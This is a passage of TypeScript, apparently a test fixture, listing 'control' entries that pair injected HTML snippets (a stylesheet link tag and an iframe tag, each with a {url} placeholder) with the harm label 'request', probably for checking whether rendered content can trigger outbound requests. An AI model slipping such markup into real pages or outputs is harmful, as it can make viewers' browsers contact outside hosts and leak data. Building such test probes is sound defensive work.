    ["control-stylesheet-request", '<link rel="stylesheet" href="{url}">', { harm: "request" }],
    ["control-frame-request", '<iframe src="{url}"></iframe>', { harm: "request" }],
  ] as const satisfies ReadonlyArray<readonly [string, string, Omit<Control, "name" | "text">]>
).map(([name, text, besides]) => ({ name, text: fill(name, text), ...besides }));
